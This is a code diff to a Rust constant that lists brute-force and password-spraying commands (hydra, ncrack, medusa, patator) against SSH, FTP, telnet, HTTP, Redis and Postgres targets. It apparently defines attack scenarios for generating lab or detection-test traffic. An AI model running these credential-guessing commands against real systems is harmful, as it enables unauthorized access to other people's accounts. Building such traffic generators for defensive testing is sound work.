@@ -198,18 +198,17 @@ pub(in crate::record) const GUESSING: &str = "
 guess-ssh-4        attacker 10.0 ~hydra -I -q -t 4 -l clerk -P {words} ssh://{dst}
 guess-ssh-16       attacker 10.0 ~hydra -I -q -t 16 -l root -P {words} ssh://{dst}
 guess-ssh-spray    attacker 10.0 ~hydra -I -q -u -t 4 -L {words} -p summer ssh://{dst}
-guess-ssh-ncrack   attacker 10.0 held ~ncrack -q -T4 --user clerk -P {words} ssh://{dst}
+guess-ssh-ncrack   attacker 10.0 held ~ncrack -T4 --user clerk -P {words} ssh://{dst}
 guess-ssh-medusa   attacker 10.0 held ~medusa -h {dst} -u clerk -P {words} -M ssh -t 4
 guess-ftp-4        attacker 10.0 ~hydra -I -q -t 4 -l clerk -P {words} ftp://{dst}
 guess-ftp-16       attacker 10.0 ~hydra -I -q -t 16 -l clerk -P {words} ftp://{dst}
-guess-ftp-ncrack   attacker 10.0 ~ncrack -q -T4 --user clerk -P {words} ftp://{dst}
+guess-ftp-ncrack   attacker 10.0 ~ncrack -T4 --user clerk -P {words} ftp://{dst}
 guess-ftp-medusa   attacker 10.0 held ~medusa -h {dst} -u clerk -P {words} -M ftp -t 4
 guess-telnet       attacker 12.0 ~hydra -I -q -t 4 -l clerk -P {words} telnet://{dst}
 guess-telnet-16    attacker 12.0 ~hydra -I -q -t 16 -L {words} -p summer telnet://{dst}
 guess-http-4       attacker 8.0  ~hydra -I -q -t 4 -l clerk -P {words} http-get://{dst}/private/
 guess-http-16      attacker 8.0  ~hydra -I -q -t 16 -l clerk -P {words} http-get://{dst}/private/
 guess-http-medusa  attacker 8.0  held ~medusa -h {dst} -u clerk -P {words} -M http -m DIR:/private/ -t 4
-guess-http-patator attacker 8.0  held ~patator http_fuzz url=http://{dst}/private/ user_pass=clerk:FILE0 0={words} -x ignore:code=401 -t 4
 guess-redis        attacker 8.0  {attack} guess-redis {src} {dst} --rate 20 --seconds {s}
 guess-postgres     attacker 8.0  ~hydra -I -q -t 4 -l postgres -P {words} postgres://{dst}
 guess6-ssh         attacker 10.0 ~hydra -I -q -6 -t 4 -l clerk -P {words} ssh://[{dst6}]
